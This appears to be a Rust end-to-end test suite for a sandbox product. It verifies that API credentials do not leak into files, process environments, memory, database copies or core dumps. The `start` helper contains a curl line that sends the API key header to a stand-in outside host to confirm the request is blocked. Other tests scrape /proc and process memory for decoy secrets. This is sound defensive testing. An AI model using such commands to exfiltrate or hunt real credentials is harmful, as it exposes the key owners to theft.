//! Where secrets could be found, and are not. One search looks for them and for what is planted in
//! each place and each form; it has to find the latter.

use std::collections::BTreeSet;
use std::fs::{self, OpenOptions};
use std::io::{Read as _, Write as _};
use std::os::unix::fs::MetadataExt as _;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use openshell_e2e::{Sandbox, eventually};
use openshell_testkit::http::Response;
use openshell_testkit::{Finished, Product, RunAs, World, finish, world};
use rustix::process::{Pid, Signal, kill_process};

use crate::agent::{ASK, HOST, POLICY, provider, serve, trust, with_provider};

const SEARCH: &str = include_str!("canary.py");
const PYTHON: &str = "/usr/bin/python3";
const DEADLINE: Duration = Duration::from_secs(120);

/// What stands before the secret of a value is in its placeholder, too.
const CREDENTIAL: (&str, &str) =
    ("sk-ant-api03-", "cred/QUEEN+bravo7Tango8Whisky9cred/ZULU+alpha1Delta2Echo3");
const ROUTE: (&str, &str) =
    ("sk-proj-", "rout/NINER+lima3Oscar4Papa5rout/ROMEO+hotel7India8Juliet9");

/// What a search has to find.
const PLANTED: &str = "plan/OTTER+kilo2Mike3Novem4plan/SIERRA+uniform6Victor7Xray8";

/// The forms in which it is planted, as the search calls them.
const FORMS: [&str; 7] =
    ["plain", "split-plain", "base64", "split-base64", "hex", "percent", "gzip-plain"];

/// A secret as it is told to the search.
fn told(name: &str, secret: &str) -> String {
    format!("{name}={}", secret.chars().rev().collect::<String>())
}

fn all_told() -> String {
    let all = [("credential", CREDENTIAL.1), ("route", ROUTE.1), ("planted", PLANTED)];
    all.map(|(name, secret)| told(name, secret)).join(",")
}

/// What a search said.
struct Found(BTreeSet<(String, String, String)>);

impl Found {
    fn new(said: &Finished) -> Self {
        let words = |line: &str| {
            let mut words = line.splitn(3, ' ').map(str::to_owned);
            Some((words.next()?, words.next()?, words.next()?))
        };
        Self(said.stdout.lines().filter_map(words).collect())
    }

    fn has(&self, name: &str, form: &str, place: &str) -> bool {
        self.0.contains(&(name.to_owned(), form.to_owned(), place.to_owned()))
    }

    /// Nothing real, and in the folders what was planted in each form.
    #[track_caller]
    fn is_planted_alone<'p>(&self, folders: impl IntoIterator<Item = &'p str>) {
        let real = self.0.iter().filter(|(name, _, _)| name == "credential" || name == "route");
        let real: Vec<_> = real.collect();
        assert!(real.is_empty(), "{real:#?}");
        for folder in folders {
            for form in FORMS {
                let place = format!("{folder}/planted-{form}");
                assert!(self.has("planted", form, &place), "{form} {place} {:#?}", self.0);
            }
        }
    }
}

/// A sandbox that has used both secrets, rightly and wrongly.
fn start<'p>(product: &'p Product, w: &World) -> Sandbox<'p> {
    trust(product, w);
    let value = |(prefix, secret): (&str, &str)| format!("{prefix}{secret}");
    provider(product, "claude", "anthropic", "ANTHROPIC_API_KEY", &value(CREDENTIAL));
    provider(product, "models", "openai", "OPENAI_API_KEY", &value(ROUTE));
    let set = ["inference", "set", "--provider", "models", "--model", "first"];
    product.run(&set).succeeded();
    let sandbox = with_provider(product, POLICY);
    assert_eq!(sandbox.sh(ASK).succeeded().stdout, "200 hello");
    let elsewhere = "curl -sS -H \"x-api-key: $ANTHROPIC_API_KEY\" https://other.example.com/";
    let denied = sandbox.sh(elsewhere).succeeded().stdout;
    assert!(denied.contains("credential_endpoint_mismatch"), "{denied}");
    let call = "curl -sS -d '{\"model\":\"any\",\"messages\":[]}' \
         -H 'content-type: application/json' https://inference.local/v1/chat/completions";
    assert_eq!(sandbox.sh(call).succeeded().stdout, "{\"choices\":[]}");
    sandbox
}

/// Serves what is asked. Calls of models are answered for the real key alone.
fn servers(w: &World) {
    serve(w, HOST);
    serve(w, "other.example.com");
    w.serve_https("api.openai.com", |request| {
        let real = format!("Bearer {}{}", ROUTE.0, ROUTE.1);
        match request.header("authorization") {
            Some(value) if value == real => Response::json("{\"choices\":[]}"),
            _ => Response::new(401, "text/plain", "no"),
        }
    });
}

pub fn i01_no_secret_is_in_the_jail(run_as: RunAs) {
    // One program has it in its environment, and one in its arguments; their memory has it so, too.
    const SCRIPT: &str = "
        search() { /usr/bin/python3 -c \"$0\" \"$@\"; }
        search plant \"$2\" /sandbox /tmp /dev/shm || exit 1
        turn='import sys; print(sys.argv[1].split(\"=\")[1][::-1])'
        secret=$(/usr/bin/python3 -c \"$turn\" \"$2\")
        PLANTED=$secret sleep 100 & first=$!
        /usr/bin/python3 -c 'import time; time.sleep(100)' \"$secret\" & second=$!
        until grep -aq OTTER /proc/$first/environ && grep -aq sleep /proc/$second/cmdline
        do :; done
        echo pids $first $second
        search search \"$1\" \"$3\" / /proc
        search memory \"$1\" 1 $(cd /proc && echo [0-9]*)
        kill $first $second; rm -f /sandbox/planted* /tmp/planted* /dev/shm/planted*";
    world(|w| {
        servers(w);
        let product = Product::new(run_as);
        let since = crate::load::now().to_string();
        let sandbox = start(&product, w);
        let (all, planted) = (all_told(), told("planted", PLANTED));
        let script = ["sh", "-c", SCRIPT, SEARCH, &all, &planted, &since];
        let said = finish(&mut sandbox.exec_command(&[], &script), DEADLINE).succeeded();
        let found = Found::new(&said);
        found.is_planted_alone(["/sandbox", "/tmp", "/dev/shm"]);
        let pids = said.stdout.lines().find_map(|line| line.strip_prefix("pids "));
        let (first, second) = pids.and_then(|pids| pids.split_once(' ')).expect("two pids");
        assert!(found.has("planted", "plain", &format!("/proc/{first}/environ")), "{said}");
        assert!(found.has("planted", "plain", &format!("/proc/{second}/cmdline")), "{said}");
        assert!(found.has("planted", "plain", &format!("memory:{second}")), "{said}");
        assert!(found.has("refused", "-", "1"), "{said}");

        // No program of the jail leaves its memory in a file.
        let core = "ulimit -c; ulimit -c unlimited 2>/dev/null || echo refused
             /usr/bin/python3 -c 'import os; os.abort()'; echo $?; ls -A | grep -c core";
        let said = sandbox.sh(core);
        assert_eq!(said.stdout, "0\nrefused\n134\n0\n", "{said}");
    });
}

pub fn i01_i08_no_secret_is_beside_the_jail(run_as: RunAs) {
    world(|w| {
        servers(w);
        let product = Product::new(run_as);
        let sandbox = start(&product, w);
        let gateway = product.state().join("gateway");
        let key = gateway.join("credentials.key");
        assert_eq!(fs::metadata(key).expect("a key").mode() & 0o777, 0o600);
        say_everything(&product);

        let folders = [
            gateway.clone(),
            gateway.join("run"),
            product.state().join("sandboxes"),
            sandbox.folder(),
            product.config(),
        ];
        let folders = folders.map(|folder| folder.to_str().expect("a text").to_owned());
        let planted = told("planted", PLANTED);
        let plant = ["-c", SEARCH, "plant", &planted];
        let named: Vec<&str> = folders.iter().map(String::as_str).collect();
        let mut plant = product.program(PYTHON, &[&plant[..], &named].concat());
        finish(&mut plant, DEADLINE).succeeded();
        let log = only(&gateway, "log");
        let mut file = OpenOptions::new().append(true).open(&log).expect("we may write");
        writeln!(file, "{PLANTED}").expect("we may write");
        let database = only(&gateway, "db");
        let copies = back_up(&product, &database);
        let holder = Holder::start(&product);

        let ours = ours(&product);
        assert!(ours.len() >= 2, "{ours:?}");
        let mut all = product.processes();
        all.push(holder.pid());
        let found = search(&product, &all);
        found.is_planted_alone(named.iter().copied());
        let write_ahead = database.with_extension("db-wal");
        for place in [&log, &write_ahead, &copies[0], &copies[1]] {
            let place = place.to_str().expect("a text");
            assert!(found.has("planted", "plain", place), "{place} {:#?}", found.0);
        }
        for file in ["environ", "cmdline"] {
            let place = format!("/proc/{}/{file}", holder.pid().as_raw_pid());
            assert!(found.has("planted", "plain", &place), "{place} {:#?}", found.0);
        }
        memory_is_kept(&product, run_as, &all, &holder, &ours);
        no_core_is_left(&product, holder, &ours);
    });
}

/// Puts into a file what commands say of providers, routes, sandboxes and what happened.
fn say_everything(product: &Product) {
    let mut said = String::new();
    for arguments in [
        &["provider", "get", "claude", "-o", "json"][..],
        &["provider", "list", "-o", "json"],
        &["inference", "get", "-o", "json"],
        &["inference", "get", "--sandbox", "agent", "-o", "json"],
        &["sandbox", "get", "agent", "-o", "json"],
        &["sandbox", "provider", "list", "agent", "-o", "json"],
        &["policy", "get", "agent"],
        &["logs", "agent", "-n", "1000"],
        &["-vv", "provider", "list"],
    ] {
        let one = product.run(arguments).succeeded();
        said += &(one.stdout + &one.stderr);
    }
    assert!(said.contains("ANTHROPIC_API_KEY"), "{said}");
    product.write(&product.home().join("said"), &said);
}

/// The only file of a folder with that extension.
#[track_caller]
fn only(folder: &Path, extension: &str) -> PathBuf {
    let all = fs::read_dir(folder).expect("our own folder").flatten().map(|entry| entry.path());
    let all: Vec<PathBuf> =
        all.filter(|path| path.extension().is_some_and(|own| own == extension)).collect();
    let [one] = &all[..] else { panic!("{extension} {all:?}") };
    one.clone()
}

/// Plants a row in the running gateway's database, and makes two copies of that.
fn back_up(product: &Product, database: &Path) -> [PathBuf; 2] {
    const COPY: &str = "
import sqlite3, sys
database, first, second, secret = sys.argv[1:]
source = sqlite3.connect(database, timeout=30, isolation_level=None)
source.execute('CREATE TABLE planted (secret TEXT)')
source.execute('INSERT INTO planted VALUES (?)', (secret[::-1],))
copy = sqlite3.connect(first)
source.backup(copy)
copy.close()
source.execute('VACUUM INTO ?', (second,))
count, = source.execute('SELECT count(*) FROM provider_credentials').fetchone()
assert count == 2, count
";
    let copies = ["backup", "vacuumed"].map(|name| product.home().join(name));
    let [first, second] = [&copies[0], &copies[1]].map(|path| path.to_str().expect("a text"));
    let database = database.to_str().expect("a text");
    let reversed: String = PLANTED.chars().rev().collect();
    let mut copy = product.program(PYTHON, &["-c", COPY, database, first, second, &reversed]);
    finish(&mut copy, DEADLINE).succeeded();
    copies
}

/// Searches the product's home, and what /proc says of processes.
fn search(product: &Product, processes: &[Pid]) -> Found {
    let entries = fs::read_dir(product.home()).expect("our own folder").flatten();
    let entries = entries.filter(|entry| entry.file_name() != "bin").map(|entry| entry.path());
    let (folders, files): (Vec<PathBuf>, Vec<PathBuf>) = entries.partition(|path| path.is_dir());
    // A root is a folder, and that of the programs is left out.
    let copied = tempfile::tempdir().expect("/tmp is writable");
    for file in &files {
        let name = file.file_name().expect("a name");
        fs::copy(file, copied.path().join(name)).expect("we may read");
    }
    let mut command = Command::new(PYTHON);
    command.args(["-c", SEARCH, "search", &all_told(), "0"]).args(&folders).arg(copied.path());
    command.args(processes.iter().map(|pid| format!("pid:{}", pid.as_raw_pid())));
    let mut said = finish(&mut command, DEADLINE).succeeded();
    let at = copied.path().to_str().expect("a text").to_owned();
    said.stdout = said.stdout.replace(&at, product.home().to_str().expect("a text"));
    Found::new(&said)
}

/// A program of the same user with the planted secret everywhere that a program can have it.
struct Holder(Child);

impl Holder {
    fn start(product: &Product) -> Self {
        let script = "ulimit -c unlimited
             exec /usr/bin/python3 -c \"$0\" hold \"$1\" \"$PLANTED\"";
        let planted = told("planted", PLANTED);
        let mut command = product.program("/bin/sh", &["-c", script, SEARCH, &planted]);
        command.env("PLANTED", PLANTED).stdin(Stdio::piped()).stdout(Stdio::piped());
        let mut child = command.spawn().expect("a shell can be run");
        let mut said = [0; 7];
        child.stdout.as_mut().expect("piped").read_exact(&mut said).expect("it says something");
        assert_eq!(&said, b"holding");
        Self(child)
    }

    fn pid(&self) -> Pid {
        Pid::from_child(&self.0)
    }
}

/// The gateway and what belongs to the supervisor.
fn ours(product: &Product) -> Vec<Pid> {
    let mut all = product.processes();
    all.retain(|pid| {
        let line = fs::read(format!("/proc/{}/cmdline", pid.as_raw_pid())).unwrap_or_default();
        let program = line.split(|byte| *byte == 0).next().unwrap_or_default();
        program.ends_with(b"/openshell") || program.ends_with(b"/openshell-supervisor")
    });
    all
}

/// The user's own programs do not look into ours, though they look into each other.
fn memory_is_kept(product: &Product, run_as: RunAs, all: &[Pid], holder: &Holder, ours: &[Pid]) {
    for pid in ours {
        let limits = fs::read_to_string(format!("/proc/{}/limits", pid.as_raw_pid()));
        let limits = limits.expect("anybody may read it");
        let core = limits.lines().find(|line| line.starts_with("Max core file size"));
        let words: Vec<&str> = core.expect("a limit").split_whitespace().collect();
        assert_eq!(words[4..6], ["0", "0"], "{limits}");
    }
    let restricted = fs::read_to_string("/proc/sys/kernel/yama/ptrace_scope");
    if run_as == RunAs::Tester || restricted.is_ok_and(|scope| scope.trim() != "0") {
        // Root may look everywhere; and where Yama restricts, nobody may.
        return;
    }
    let pids: Vec<String> = all.iter().map(|pid| pid.as_raw_pid().to_string()).collect();
    let pids: Vec<&str> = pids.iter().map(String::as_str).collect();
    let secrets = all_told();
    let look = ["-c", SEARCH, "memory", &secrets];
    let mut look = product.program(PYTHON, &[&look[..], &pids].concat());
    let found = Found::new(&finish(&mut look, DEADLINE).succeeded());
    found.is_planted_alone([]);
    let own = format!("memory:{}", holder.pid().as_raw_pid());
    assert!(found.has("planted", "plain", &own), "{:#?}", found.0);
    for pid in ours {
        let pid = pid.as_raw_pid().to_string();
        assert!(found.has("refused", "-", &pid), "{pid} {:#?}", found.0);
    }
}

/// A program of the same user that aborts leaves its memory where it stood; ours do not.
fn no_core_is_left(product: &Product, mut holder: Holder, ours: &[Pid]) {
    let cores = || -> Vec<PathBuf> {
        let all = fs::read_dir(product.home()).expect("our own folder").flatten();
        let is_core = |path: &PathBuf| {
            path.file_name().is_some_and(|name| name.to_string_lossy().starts_with("core"))
        };
        all.map(|entry| entry.path()).filter(is_core).collect()
    };
    drop(holder.0.stdin.take());
    holder.0.wait().expect("a child can be waited for");
    let pattern = fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap_or_default();
    let left = cores();
    if pattern.starts_with("core") {
        let [core] = &left[..] else { panic!("{left:?}") };
        let core = core.to_str().expect("a text");
        assert!(search(product, &[]).has("planted", "plain", core), "{core}");
    }
    for pid in ours {
        // What belongs together ends together.
        kill_process(*pid, Signal::ABORT).ok();
    }
    eventually("they end", || self::ours(product).is_empty().then_some(()));
    assert_eq!(cores(), left);
    search(product, &[]).is_planted_alone([]);
}
